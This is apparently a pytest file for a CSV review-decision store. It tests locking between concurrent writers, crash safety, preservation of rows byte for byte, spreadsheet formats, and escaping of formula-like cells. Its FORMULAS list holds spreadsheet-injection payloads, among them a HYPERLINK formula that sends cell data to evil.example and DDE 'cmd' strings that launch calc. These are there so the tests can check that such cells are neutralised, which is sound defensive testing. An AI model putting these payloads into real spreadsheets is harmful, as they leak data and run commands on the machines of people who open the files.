"""The review file: no writer loses a decision, other rows are kept byte for
byte, spreadsheet-saved files are read and kept in their shape, and cells that
look like formulas are written as text."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest

from topaz_nb.batch.decisions import HEADER, Entry, ReviewFile, escape_cell, unescape_cell
from topaz_nb.errors import TopazError


def _ids(n: int) -> list[str]:
    return [str(uuid.UUID(int=0x1111_0000_0000_4000_8000_0000_0000_0000 + i)) for i in range(n)]


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return list(csv.reader(fh))


# -- two writers -------------------------------------------------------------------

CHILD = r"""
import logging, os, sys
from topaz_nb.batch.decisions import ReviewFile

path, name = sys.argv[1], sys.argv[2]
store = ReviewFile(path)
store.entries()  # what it read when it opened
logging.basicConfig(stream=sys.stdout, level=logging.DEBUG, format="log %(message)s")
real_replace = os.replace

def paused_replace(src, dst):
    # Holding the lock, the new file written: say so and wait to be let go.
    print("replacing", flush=True)
    assert sys.stdin.readline().strip() == "go"
    real_replace(src, dst)

print("ready", flush=True)
for line in sys.stdin:
    words = line.split()
    if words[0] == "pause":
        os.replace = paused_replace
        words = words[1:]
    store.record(words[0], decision=words[1], note=f"by {name}")
    os.replace = real_replace
    print("done", flush=True)
"""


class _Writer:
    """A ``python -c`` child recording decisions in one review file, one per line
    sent to it, answering each."""

    def __init__(self, path: Path, name: str) -> None:
        self.proc = subprocess.Popen([sys.executable, "-c", CHILD, str(path), name],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert self.line() == "ready"

    def send(self, text: str) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.write(text + "\n")
        self.proc.stdin.flush()

    def line(self) -> str:
        assert self.proc.stdout is not None
        return self.proc.stdout.readline().strip()

    def close(self) -> None:
        """Let the child end (at once when it was killed) and close the pipes."""
        for pipe in (self.proc.stdin, self.proc.stdout):
            if pipe is not None:
                try:
                    pipe.close()
                except BrokenPipeError:  # killed: the pipe has no reader
                    pass
        self.proc.wait(30)


def test_two_processes_interleaved_keep_every_decision(tmp_path):
    path = tmp_path / "review.csv"
    ids = _ids(6)
    a, b = _Writer(path, "a"), _Writer(path, "b")  # both opened the file before any decision
    try:
        for i, pid in enumerate(ids):
            writer = (a, b)[i % 2]
            writer.send(f"{pid} {('accept', 'reject', 'flag')[i % 3]}")
            assert writer.line() == "done"
    finally:
        a.close()
        b.close()
    entries = ReviewFile(path).entries()
    assert {pid: (e.decision, e.note) for pid, e in entries.items()} == {
        pid: (("accept", "reject", "flag")[i % 3], f"by {'ab'[i % 2]}") for i, pid in enumerate(ids)}
    assert _cells(path)[0] == list(HEADER)


def test_a_second_process_waits_for_the_lock_and_merges_into_what_the_first_wrote(tmp_path):
    path = tmp_path / "review.csv"
    first, second = _ids(2)
    a, b = _Writer(path, "a"), _Writer(path, "b")
    try:
        a.send(f"pause {first} accept")
        assert a.line() == "replacing"  # a holds the lock, its file not yet in place
        b.send(f"{second} reject")
        assert b.line() == "log waiting for another writer of " + str(path)
        a.send("go")
        assert a.line() == "done"
        assert b.line() == "done"  # b read the file again inside the lock
    finally:
        a.close()
        b.close()
    assert {pid: e.decision for pid, e in ReviewFile(path).entries().items()} == {
        first: "accept", second: "reject"}


def test_threads_each_keep_their_decisions(tmp_path):
    path = tmp_path / "review.csv"
    ids = _ids(40)
    start = threading.Barrier(4)
    errors: list[BaseException] = []

    def work(part: list[str]) -> None:
        store = ReviewFile(path)  # one store each, as separate reviews have
        start.wait()
        try:
            for pid in part:
                store.record(pid, decision="flag")
        except BaseException as exc:  # noqa: BLE001 -- reported below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(ids[i::4],)) for i in range(4)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(60)
    assert errors == []
    assert sorted(ReviewFile(path).entries()) == sorted(ids)


def test_a_writer_killed_mid_write_leaves_the_file_whole(tmp_path):
    path = tmp_path / "review.csv"
    first, second, third = _ids(3)
    ReviewFile(path).record(first, decision="accept")
    before = path.read_bytes()
    a = _Writer(path, "a")
    a.send(f"pause {second} reject")
    assert a.line() == "replacing"  # the lock held, the new text in a temporary file
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    a.proc.send_signal(signal.SIGKILL)
    a.close()
    assert a.proc.returncode == -signal.SIGKILL
    assert path.read_bytes() == before
    # The kernel dropped the dead writer's lock: the next one gets it, and
    # clears the temporary file left behind.
    entries = ReviewFile(path).record(third, decision="flag")
    assert {pid: e.decision for pid, e in entries.items()} == {first: "accept", third: "flag"}
    assert sorted(p.name for p in tmp_path.iterdir()) == [".review.csv.lock", "review.csv"]


def test_a_failed_write_changes_nothing(tmp_path, monkeypatch):
    path = tmp_path / "review.csv"
    store = ReviewFile(path)
    store.record(_ids(1)[0], decision="accept")
    before = path.read_bytes()

    def full(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(OSError, match="No space"):
        store.record(_ids(2)[1], decision="reject")
    monkeypatch.undo()
    assert path.read_bytes() == before
    assert list(store.entries()) == [_ids(1)[0]]
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# -- rows it does not own --------------------------------------------------------------

def test_rows_it_does_not_own_are_kept_byte_for_byte(tmp_path):
    path = tmp_path / "review.csv"
    mine, other, new = _ids(3)
    keep = [
        f"{other},maybe,another tool's decision,M,x.jpg,2026-01-01T00:00:00+00:00\r\n",
        "\r\n",
        ",,,,,\r\n",
        'not-an-id,,"a note\r\nover two lines, with ""quotes""",,,\r\n',
        f"{other.upper()},Accept,  spaced  ,Model,  odd name .jpg  ,when,extra,cells\r\n",
    ]
    text = (",".join(HEADER) + "\r\n" + keep[0] + keep[1]
            + f"{mine},accept,old,M,m.jpg,t\r\n" + keep[2] + keep[3] + keep[4].rstrip("\r\n"))
    path.write_bytes(text.encode("utf-8"))
    store = ReviewFile(path)
    assert store.entries()[other] == Entry(other, "accept", "  spaced  ", "Model",
                                           "  odd name .jpg  ", "when")
    assert store.entries()[mine].decision == "accept"
    store.record(mine, decision="reject", note="now rejected", reviewed_at="t2")
    store.record(new, decision="flag", reviewed_at="t3")
    data = path.read_bytes().decode("utf-8")
    # Every record but mine is there as it was, in its place; mine changed in
    # place; the new one is appended after a line end added to the old last line.
    assert data == (",".join(HEADER) + "\r\n" + keep[0] + keep[1]
                    + f"{mine},reject,now rejected,M,m.jpg,t2\r\n" + keep[2] + keep[3] + keep[4]
                    + f"{new},flag,,,,t3\r\n")


def test_a_note_is_kept_without_a_decision_and_a_decision_keeps_the_note(tmp_path):
    path = tmp_path / "review.csv"
    pid = _ids(1)[0]
    store = ReviewFile(path)
    assert store.record(pid, note="look at the sky")[pid] == Entry(pid, "", "look at the sky")
    assert ReviewFile(path).entries()[pid].note == "look at the sky"
    assert store.record(pid, decision="accept")[pid] == Entry(pid, "accept", "look at the sky")
    assert store.record(pid, note="")[pid] == Entry(pid, "accept", "")


# -- a spreadsheet's file ---------------------------------------------------------------

def test_a_spreadsheet_saved_file_is_read_and_kept_in_its_shape(tmp_path):
    """Excel's "CSV UTF-8": a BOM, CRLF, headers as a person typed them, a column
    added by hand, an upper-case ID and a capitalised decision."""
    path = tmp_path / "review.csv"
    theirs, new = _ids(2)
    header = "Process_ID,Decision,Note,Model,Filename,Reviewed_At,Reviewer\r\n"
    row = f"{theirs.upper()},Accept,fine,Standard V2,a.jpg,2026-11-01 10:00,ann\r\n"
    path.write_bytes(b"\xef\xbb\xbf" + (header + row).encode("utf-8"))
    store = ReviewFile(path)
    assert store.entries() == {theirs: Entry(theirs, "accept", "fine", "Standard V2", "a.jpg",
                                             "2026-11-01 10:00")}
    store.record(new, decision="reject", model="HQ", filename="b.jpg", reviewed_at="t")
    data = path.read_bytes()
    assert data == b"\xef\xbb\xbf" + (header + row + f"{new},reject,,HQ,b.jpg,t,\r\n").encode()
    # Deciding their row again changes its cells in place, keeping the ID as
    # written and the hand-added column.
    store.record(theirs, decision="flag", reviewed_at="t2")
    assert path.read_bytes().decode("utf-8-sig").splitlines()[1] == (
        f"{theirs.upper()},flag,fine,Standard V2,a.jpg,t2,ann")


def test_semicolons_tabs_and_lf_line_ends_are_kept(tmp_path):
    pid = _ids(1)[0]
    for separator in (";", "\t"):
        path = tmp_path / f"review-{ord(separator)}.csv"
        path.write_text(separator.join(h.upper() for h in reversed(HEADER)) + "\n",
                        encoding="utf-8", newline="")
        ReviewFile(path).record(pid, decision="accept", note="a, b; c", reviewed_at="t")
        lines = path.read_bytes().decode("utf-8").split("\n")
        note = '"a, b; c"' if separator == ";" else "a, b; c"  # quoted only where it must be
        assert lines[1] == separator.join(["t", "", "", note, "accept", pid])
        assert lines[2] == ""  # LF line ends, as the file had
        assert ReviewFile(path).entries()[pid].note == "a, b; c"


def test_a_file_that_is_not_a_review_is_refused_with_one_line(tmp_path):
    path = tmp_path / "scores.csv"
    path.write_text("name,score\na,1\n", encoding="utf-8")
    with pytest.raises(TopazError, match=r"scores.csv is not a review file .*process_id,decision"):
        ReviewFile(path).entries()
    latin = tmp_path / "latin.csv"
    latin.write_bytes((",".join(HEADER) + "\r\n").encode() + "x,accept,café,,,\r\n".encode("cp1252"))
    with pytest.raises(TopazError, match="not UTF-8 text: save it as .CSV UTF-8."):
        ReviewFile(latin).entries()
    with pytest.raises(TopazError, match="not a review file"):
        ReviewFile(path).record(_ids(1)[0], decision="accept")
    assert path.read_text(encoding="utf-8") == "name,score\na,1\n"


def test_an_empty_file_becomes_a_review_file(tmp_path):
    path = tmp_path / "review.csv"
    path.write_bytes(b"")
    pid = _ids(1)[0]
    ReviewFile(path).record(pid, decision="accept", reviewed_at="t")
    assert path.read_bytes() == (",".join(HEADER) + f"\r\n{pid},accept,,,,t\r\n").encode()


# -- spreadsheet-safe cells ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3.jpg", "\t=1+1", "\r=1+1", "'=1+1", "''", "'"]


def test_formula_looking_cells_are_written_as_text_and_read_back(tmp_path):
    path = tmp_path / "review.csv"
    ids = _ids(len(FORMULAS))
    store = ReviewFile(path)
    for pid, value in zip(ids, FORMULAS):
        store.record(pid, decision="accept", note=value, model=value, filename=value)
    rows = _cells(path)[1:]
    for row, value in zip(rows, FORMULAS):
        assert row[2] == row[3] == row[4] == "'" + value, value  # the spreadsheet shows text
    again = ReviewFile(path).entries()
    assert [(again[p].note, again[p].model, again[p].filename) for p in ids] == [
        (v, v, v) for v in FORMULAS]


@pytest.mark.parametrize("value", FORMULAS + ["", "plain", "'tis", "a=b", " =1", "x'", "'a",
                                              "-", "=", "@", "+"])
def test_escaping_round_trips(value):
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_quote_a_person_typed_stays(tmp_path):
    path = tmp_path / "review.csv"
    pid = _ids(1)[0]
    path.write_text(",".join(HEADER) + f"\r\n{pid},accept,'tis fine,,,\r\n", encoding="utf-8")
    assert ReviewFile(path).entries()[pid].note == "'tis fine"


def test_a_multiline_note_round_trips(tmp_path):
    path = tmp_path / "review.csv"
    pid = _ids(1)[0]
    note = 'line one\r\nline "two"\nline three\r'
    ReviewFile(path).record(pid, decision="flag", note=note)
    assert ReviewFile(path).entries()[pid].note == note
    assert list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))[1][2] \
        == note


def test_an_edit_made_in_a_spreadsheet_meanwhile_is_seen_and_kept(tmp_path):
    path = tmp_path / "review.csv"
    first, second = _ids(2)
    store = ReviewFile(path)
    store.record(first, decision="accept", reviewed_at="t")
    assert store.entries()[first].decision == "accept"
    # Saved in place by another program, between two decisions of this one.
    with path.open("a", encoding="utf-8", newline="") as fh:
        fh.write(f"{second},Reject,typed by hand,,,\r\n")
    assert store.entries()[second] == Entry(second, "reject", "typed by hand")
    store.record(first, note="and a note")
    assert path.read_bytes().decode("utf-8").splitlines()[1:] == [
        f"{first},accept,and a note,,,t", f"{second},Reject,typed by hand,,,"]
